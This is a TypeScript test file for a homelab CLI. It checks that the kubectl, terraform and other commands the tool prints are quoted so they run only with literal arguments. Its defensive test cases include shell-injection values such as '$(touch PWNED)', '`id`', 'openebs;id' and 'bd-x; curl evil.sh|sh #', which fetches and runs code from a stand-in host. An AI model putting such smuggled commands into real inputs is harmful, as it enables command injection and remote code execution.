/**
 * Every command line `restore`, `disks discover` and `plan` print is one a person can paste:
 * it parses (`sh -n`), and run in a sandbox with each command replaced by `printf '%s\0'`,
 * its arguments arrive as the literal values, and nothing else runs.
 */
import { spawnSync } from 'child_process';
import * as fs from 'fs';
import * as os from 'os';
import * as path from 'path';
import { runPrinted } from '../helpers/printed-commands';
import { listFiles } from '../helpers/tree';

const ROOT = path.resolve(__dirname, '..', '..');
const APP = path.join(ROOT, 'apps/main.ts');
const FIXTURE = path.join(ROOT, 'examples/storage/blockdevices.json');
const cli = (args: string[], cwd: string) => spawnSync(process.execPath, [path.join(ROOT, 'bin/homelab.js'), ...args], { cwd, encoding: 'utf8' });

let dir: string;
beforeEach(() => { dir = fs.mkdtempSync(path.join(os.tmpdir(), 'homelab-printed-cli-')); });
afterEach(() => fs.rmSync(dir, { recursive: true, force: true }));

/** The indented command lines after `marker` in `text`. */
const linesAfter = (text: string, marker: RegExp) => {
  const all = text.split('\n');
  const at = all.findIndex((l) => marker.test(l));
  expect(at).toBeGreaterThanOrEqual(0);
  const out: string[] = [];
  for (const l of all.slice(at + 1)) {
    if (!/^\s{2,}\S/.test(l)) break;
    out.push(l.trim());
  }
  return out;
};

describe('restore', () => {
  test.each([
    'sp ace;$(touch PWNED)',
    "it's `touch PWNED` & \"q\" \\ $HOME *",
  ])('--out %j: every printed command gets the path as one literal argument', (name) => {
    // GIVEN an output folder whose name holds shell syntax
    const out = path.join(dir, name);
    // WHEN restoring into it
    const r = cli(['restore', 'gitea', '--app', APP, '--out', out], dir);
    expect(r.stderr).toBe('');
    expect(r.status).toBe(0);
    const file = path.join(out, 'restore-gitea-latest.k8s.yaml');
    expect(fs.existsSync(file)).toBe(true);
    // THEN each printed line, pasted, runs kubectl with exactly the intended arguments and nothing else
    const commands = linesAfter(r.stdout, /Run:$/);
    expect(commands).toHaveLength(7);
    const calls = commands.map((c) => {
      const run = runPrinted(c, ['kubectl']);
      expect(run.files).toEqual([]);
      expect(run.status).toBe(0);
      expect(run.calls).toHaveLength(1);
      return run.calls[0];
    });
    expect(calls[3]).toEqual(['kubectl', 'apply', '-f', file]);
    expect(calls[0]).toEqual(['kubectl', '-n', 'gitea', 'scale', 'deployment', 'gitea', '--replicas=0']);
    expect(listFiles(dir)).toEqual([path.relative(dir, file)]);
  });
});

describe('disks discover', () => {
  test('a BlockDevice listed twice and a second one for the locked disk: the lock keeps its device, only the other may be deleted, and every command runs literally', () => {
    // GIVEN the reference NDM output with ulf's device listed twice, plus a second, stale device for that disk
    // that sorts first, and the committed lock
    const list = JSON.parse(fs.readFileSync(FIXTURE, 'utf8'));
    const ulf = list.items.find((i: any) => i.spec.nodeAttributes.nodeName === 'ulf');
    const second = JSON.parse(JSON.stringify(ulf));
    second.metadata.name = 'blockdevice-0000aaaa';
    second.spec.filesystem = { fsType: 'zfs_member' };
    list.items.push(JSON.parse(JSON.stringify(ulf)), second);
    const input = path.join(dir, 'bd.json');
    fs.writeFileSync(input, JSON.stringify(list));
    const lock = path.join(dir, 'lock.json');
    fs.copyFileSync(path.join(ROOT, 'storage.lock.json'), lock);
    // WHEN discovering
    const r = cli(['disks', 'discover', '--from', input, '--lock', lock, '--app', APP], ROOT);
    expect(r.stderr).toBe('');
    expect(r.status).toBe(0);
    // THEN the lock is unchanged, the locked device is never to be deleted, the other one is
    expect(fs.readFileSync(lock, 'utf8')).toBe(fs.readFileSync(path.join(ROOT, 'storage.lock.json'), 'utf8'));
    expect(r.stdout).not.toContain(`delete blockdevice ${ulf.metadata.name}`);
    expect(r.stdout).toContain('kubectl -n openebs delete blockdevice blockdevice-0000aaaa');
    const commands = linesAfter(r.stdout, /run by hand/);
    expect(commands.length).toBeGreaterThan(0);
    const calls = commands.flatMap((c) => {
      const run = runPrinted(c, ['kubectl', 'sudo']);
      expect(run.files).toEqual([]);
      return run.calls;
    });
    expect(calls).toEqual([
      ['kubectl', '-n', 'openebs', 'delete', 'blockdevice', 'blockdevice-0000aaaa'],
      ['kubectl', '-n', 'openebs', 'delete', 'pod', '-l', 'openebs.io/component-name=ndm', '--field-selector', 'spec.nodeName=ulf'],
    ]);
  });

  test.each([
    ['metadata.name', '$(id)'],
    ['metadata.name', 'bd-x; curl evil.sh|sh #'],
    ['metadata.namespace', 'openebs;id'],
    ['spec.nodeAttributes.nodeName', '`id`'],
  ])('fails on a %s of %j, which never reaches a command or the lock', (field, value) => {
    const list = JSON.parse(fs.readFileSync(FIXTURE, 'utf8'));
    const [first] = list.items;
    const [top, ...rest] = field.split('.');
    let o = first[top];
    for (const k of rest.slice(0, -1)) o = o[k];
    o[rest[rest.length - 1]] = value;
    const input = path.join(dir, 'bd.json');
    fs.writeFileSync(input, JSON.stringify(list));
    const lock = path.join(dir, 'lock.json');
    const r = cli(['disks', 'discover', '--from', input, '--lock', lock, '--app', APP], ROOT);
    expect(r.status).toBe(1);
    expect(r.stderr).toMatch(new RegExp(`\\[${input.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')}\\] blockdevices\\.items\\[0\\]\\.${field.replace(/\./g, '\\.')}: not a Kubernetes`));
    expect(r.stdout).toBe('');
    expect(fs.existsSync(lock)).toBe(false);
  });
});

describe('plan', () => {
  test('every command line of the bring-up parses and runs its commands with literal arguments', () => {
    // WHEN printing the plan of the reference homelab
    const r = cli(['plan', '--app', APP], dir);
    expect(r.stderr).toBe('');
    expect(r.status).toBe(0);
    const commands = r.stdout.split('\n').map((l) => l.trim())
      .filter((l) => /^(export |[A-Za-z_][A-Za-z0-9_]*=… |\.\/routers\/|cdktf |sops |cd nixos|npx homelab)/.test(l));
    const routers = [...r.stdout.matchAll(/\.\/routers\/([a-z0-9-]+)\/deploy\.sh/g)].map((m) => `./routers/${m[1]}/deploy.sh`);
    expect(routers.length).toBeGreaterThan(0);
    // THEN each runs the intended command and nothing else
    const ran = commands.map((c) => {
      const run = runPrinted(c, ['cdktf', 'sops', 'colmena', 'npx', 'terraform', ...routers, './nixos/.stub']);
      expect(run.files).toEqual([]);
      expect(run.status).toBe(0);
      return run.calls;
    });
    expect(ran.flat().map((c) => c[0]).sort()).toEqual(expect.arrayContaining(['cdktf', 'colmena', 'deploy.sh', 'npx', 'sops', 'terraform']));
    expect(ran.flat()).toContainEqual(['cdktf', 'deploy', 'example']);
    expect(ran.flat()).toContainEqual(['terraform', '-chdir=cdktf.out/stacks/example', 'output', '-raw', 'restic_gitea_b2_key_id']);
  });
});
